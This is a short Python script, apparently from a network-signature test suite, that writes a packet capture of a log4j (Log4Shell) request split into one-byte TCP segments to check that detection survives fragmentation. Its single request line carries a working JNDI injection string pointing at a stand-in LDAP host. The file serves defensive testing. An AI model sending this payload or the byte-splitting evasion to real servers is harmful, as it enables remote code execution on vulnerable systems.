# tests/signature/split_1byte/gen.py: a log4j request sent one byte per TCP segment.
from siglib import Capture, TcpSession, out_path
cap = Capture()
TcpSession(cap).handshake().send("GET /?q=${jndi:ldap://203.0.113.66/x} HTTP/1.1\r\nHost: a\r\n\r\n", size=1).close()
cap.write(out_path())
